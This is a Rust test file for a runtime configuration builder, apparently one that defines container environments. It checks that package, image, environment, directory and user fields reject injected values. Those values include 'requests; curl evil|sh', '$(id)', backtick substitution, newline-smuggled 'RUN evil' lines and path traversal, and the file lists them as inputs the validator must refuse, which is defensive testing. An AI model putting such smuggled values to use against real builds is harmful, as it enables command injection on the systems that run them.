//! Which runtimes are accepted and rejected, and their JSON.

use super::{PackageManager, RuntimeConfig, RuntimeImage};
use crate::ErrorKind;

#[track_caller]
fn refused(builder: super::RuntimeBuilder) {
    let error = builder.clone().build().expect_err(&format!("{builder:?}"));
    assert!(
        matches!(
            error.kind(),
            ErrorKind::InvalidRequest | ErrorKind::InvalidPath
        ),
        "{error}"
    );
}

fn base() -> super::RuntimeBuilder {
    RuntimeConfig::builder("x").base_image("python:3.12-slim")
}

#[test]
fn every_builtin_is_valid_and_survives_its_json() {
    let names: Vec<_> = RuntimeConfig::builtins()
        .iter()
        .map(|r| r.name().to_owned())
        .collect();
    assert_eq!(
        names,
        [
            "node-minimal",
            "node-react",
            "python-datascience",
            "python-minimal",
            "python-web"
        ]
    );
    for runtime in RuntimeConfig::builtins() {
        let json = serde_json::to_string(&runtime).unwrap();
        assert_eq!(
            serde_json::from_str::<RuntimeConfig>(&json).unwrap(),
            runtime
        );
        assert_eq!(runtime.work_dir().as_str(), "/workspace");
    }
}

#[test]
fn a_builtin_is_found_only_by_its_full_name() {
    let runtime = RuntimeConfig::builtin("python-datascience").unwrap();
    assert_eq!(
        runtime.image(),
        &RuntimeImage::BuiltOn("python:3.12-slim".into())
    );
    assert!(runtime.packages()[0].names.contains(&"pandas".to_owned()));
    assert!(RuntimeConfig::builtin("python").is_none());
}

#[test]
fn packages_are_names_and_nothing_else() {
    for name in ["numpy>=2", "uvicorn[standard]", "a==1.0.*", "A_b.c-d"] {
        base()
            .packages(PackageManager::Pip, [name])
            .build()
            .unwrap();
    }
    for name in ["react", "@types/react", "@types/react@^18.0.0", "vite@5"] {
        base()
            .packages(PackageManager::Npm, [name])
            .build()
            .unwrap();
    }
    base()
        .packages(PackageManager::Apt, ["libstdc++6", "git=1:2.39~x"])
        .build()
        .unwrap();
    base()
        .packages(PackageManager::Cargo, ["ripgrep@14.1.0"])
        .build()
        .unwrap();
    for name in [
        "requests; curl evil|sh",
        "",
        "-r",
        "--index-url=x",
        "a b",
        "$(id)",
        "a\nb",
        "./x",
        "`x`",
    ] {
        for manager in [
            PackageManager::Pip,
            PackageManager::Npm,
            PackageManager::Apt,
        ] {
            refused(base().packages(manager, [name]));
        }
    }
    refused(base().packages(PackageManager::Apt, ["libc6-"]));
    refused(base().packages(PackageManager::Pip, ["six-1.0-py3-none-any.whl"]));
    refused(base().packages(PackageManager::Npm, ["is-number-7.0.0.tgz"]));
    refused(base().packages(PackageManager::Npm, ["user/repo"]));
    refused(base().packages(PackageManager::Npm, ["@a/../../b"]));
    refused(base().packages(PackageManager::Pip, ["git+https://example.org/x"]));
}

#[test]
fn other_fields_are_checked_too() {
    for name in ["", "My Env", "../x", "A", "-x", &"a".repeat(65)] {
        refused(RuntimeConfig::builder(name).image("python:3.12-slim"));
    }
    for image in ["", "-x", "a b", "a\nRUN evil"] {
        refused(RuntimeConfig::builder("x").image(image));
    }
    for (name, value) in [
        ("", "x"),
        ("b\nRUN evil", "x"),
        ("1A", "x"),
        ("A", "\0"),
        ("A=B", "x"),
    ] {
        refused(base().env(name, value));
    }
    refused(base().env("A", "x".repeat(128 << 10)));
    for dir in ["/", "../x", "/a\0"] {
        refused(base().work_dir(dir));
    }
    for user in ["", "a b", ":", "1:", "1:2:3", "-u"] {
        refused(base().user(user));
    }
    refused(base().setup(" "));
    base()
        .env("SP", "two words")
        .user("1000:1000")
        .setup("echo \"$HOME\"")
        .build()
        .unwrap();
}

#[test]
fn a_runtime_has_one_source_of_its_image() {
    refused(RuntimeConfig::builder("x"));
    refused(RuntimeConfig::builder("x").image("a").base_image("b"));
    refused(
        RuntimeConfig::builder("x")
            .image("a")
            .packages(PackageManager::Pip, ["b"]),
    );
}

#[test]
fn json_is_checked_and_an_unknown_field_is_an_error() {
    let ok = r#"{"name":"x","base_image":"a","packages":[{"manager":"uv","names":["b"]}]}"#;
    let runtime: RuntimeConfig = serde_json::from_str(ok).unwrap();
    assert!(runtime.cache());
    for bad in [
        r#"{"name":"x"}"#,
        r#"{"name":"x","image":"a","pakages":[]}"#,
        r#"{"name":"x","base_image":"a","packages":[{"manager":"pip","names":["-r"]}]}"#,
        r#"{"name":"../x","image":"a"}"#,
    ] {
        assert!(serde_json::from_str::<RuntimeConfig>(bad).is_err(), "{bad}");
    }
}
